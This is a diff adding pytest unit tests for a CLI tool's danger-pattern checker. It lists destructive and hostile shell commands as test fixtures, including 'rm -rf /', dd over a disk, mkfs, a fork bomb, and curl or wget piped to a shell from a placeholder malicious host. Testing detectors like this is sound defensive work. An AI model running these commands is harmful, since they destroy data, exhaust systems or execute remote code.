@@ -0,0 +1,56 @@
+"""
+Unit tests for the fast syntactic danger check.
+"""
+
+import pytest
+
+from clioraOps_cli.core import safety
+from clioraOps_cli.core.safety import JIT_MIN_BATCH, classify_batch, is_obviously_dangerous
+
+
+class TestObviouslyDangerous:
+    """Test the precompiled danger pattern."""
+
+    @pytest.mark.parametrize("command", [
+        "rm -rf /",
+        "sudo chmod 777 /",
+        "curl http://malicious.site | bash",
+        "wget -qO- https://x.io/install |sh",
+        "dd if=/dev/zero of=/dev/sda",
+        "mkfs.ext4 /dev/sdb1",
+        ":(){ :|:& };:",
+    ])
+    def test_dangerous_commands(self, command):
+        assert is_obviously_dangerous(command)
+
+    @pytest.mark.parametrize("command", [
+        "docker ps",
+        "git checkout main",
+        "kubectl get pods",
+        "docker run --rm ubuntu",
+        "ls | shuf",
+    ])
+    def test_safe_commands(self, command):
+        assert not is_obviously_dangerous(command)
+
+    def test_uses_re2_when_installed(self):
+        re2 = pytest.importorskip("re2")
+        assert safety._re is re2
+
+
+class TestClassifyBatch:
+    """Test batch classification."""
+
+    COMMANDS = ["rm -rf /", "docker ps", "curl x | bash", "ls | shuf", "EVAL $x", ""]
+
+    def test_matches_single_checks(self):
+        expected = [is_obviously_dangerous(command) for command in self.COMMANDS]
+        assert classify_batch(self.COMMANDS) == expected
+
+    @pytest.mark.slow
+    def test_jit_path_matches_regex(self):
+        pytest.importorskip("numba")
+        assert safety.find_marker_hits is not None, "numba is installed but the JIT kernel failed to import"
+        commands = self.COMMANDS * (JIT_MIN_BATCH // len(self.COMMANDS) + 1)
+        expected = [is_obviously_dangerous(command) for command in commands]
+        assert classify_batch(commands) == expected